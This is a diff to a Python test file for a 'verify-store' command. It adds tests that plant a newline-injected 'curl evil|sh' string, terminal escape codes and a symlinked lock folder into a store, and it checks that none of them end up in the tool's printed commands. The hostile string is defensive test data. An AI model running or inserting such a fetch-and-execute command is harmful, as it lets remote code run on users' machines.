@@ -1,5 +1,6 @@
 """trace-opd verify-store: what is not as written is found, with the command that makes it again."""
 
+import json
 import shlex
 import shutil
 import subprocess
@@ -92,7 +93,65 @@ def test_a_manifest_that_was_changed_is_no_basis_for_a_command(run, root):
     path.write_text("{")
     code, said = run("verify-store", "--store", root)
     assert code == 1
-    assert "manifest.json: not what was written; remove" in " ".join(said.split())
+    assert "manifest.json:doesnotholdwhatwaswritten" in "".join(said.split())
+
+
+HOSTILE = "train/x\ncurl evil|sh #"
+
+
+def test_nothing_in_a_store_becomes_a_line_among_the_commands(run, root):
+    store = Store(root)
+    made = store.get("mine")
+    manifest = json.loads(Path(made.path(MANIFEST)).read_text())
+    config = manifest["config"]
+    folder = "problems/0123456789abcde"
+    copies = [
+        {"config": config | {"online": HOSTILE}},
+        {"inputs": {HOSTILE: HOSTILE}},
+        {"inputs": {HOSTILE: "rollout/" + "0" * 16}},
+        {"parts": [manifest["parts"][0] | {"name": HOSTILE}]},
+        {"files": [manifest["parts"][0] | {"name": HOSTILE}]},
+        {"stage": "train", "summary": {"tables": {"x": ""}}},
+        {"stage": "train", "summary": {"tables": {"x": HOSTILE}}},
+        {"finished_at": HOSTILE},
+        {"config": config | {"source": {"kind": "files", "path": HOSTILE}}},
+        {"config": config | {"import": {"layout": HOSTILE, "file": HOSTILE, "limit": 3}}},
+        {"config": config | {"import": {"layout": "\x1b[31m", "file": "\u202e"}}},
+        {"config": {"import": {}}},
+    ]
+    for index, changes in enumerate(copies):
+        ref = f"{changes.get('stage', 'problems')}/{index:016x}"
+        changed = manifest | changes | {"id": ref.partition("/")[2]}
+        del changed["manifest_sha256"]
+        store.write_json(f"{ref}/{MANIFEST}", changed)  # and no part
+    (root / folder).with_name(HOSTILE.replace("/", "")).mkdir()
+    shutil.copy(made.path(MANIFEST), (root / folder).with_name(HOSTILE.replace("/", "")))
+    (root / "problems" / f"{HOSTILE.replace('/', '')}.tmp-1-2").write_text("")
+    aliases = {"mine": made.ref, HOSTILE: made.ref, "other": HOSTILE}
+    store.write_json("aliases.json", aliases)
+    code, said = run("verify-store", "--store", root)
+    assert code == 1
+    lines = [line.lstrip() for line in said.splitlines()]
+    assert not any(line.startswith("curl") for line in lines)
+    removals = [shlex.split(line.split(" && ")[0]) for line in lines if line.startswith("rm -r ")]
+    assert removals
+    for removal in removals:
+        for path in removal[2:]:
+            assert Path(path).parent.parent.parent == root, path
+    assert {line for line in lines if line.startswith("trace-opd")} == set()
+
+
+def test_a_stage_on_a_store_whose_locks_are_a_link_is_refused_in_a_sentence(run, tmp_path):
+    victim, root = tmp_path / "victim", tmp_path / "gift"
+    victim.mkdir()
+    (victim / "aliases.json").write_text("mine")
+    root.mkdir()
+    (root / ".locks").symlink_to("../victim")
+    code, said = run(*PROBLEMS, "--store", root)
+    assert code == 2
+    assert said.startswith("trace-opd: ")
+    assert ".locks': is a symbolic link" in said
+    assert (victim / "aliases.json").read_text() == "mine"
 
 
 def test_drafts_leftovers_and_names_of_nothing_are_told(run, root):
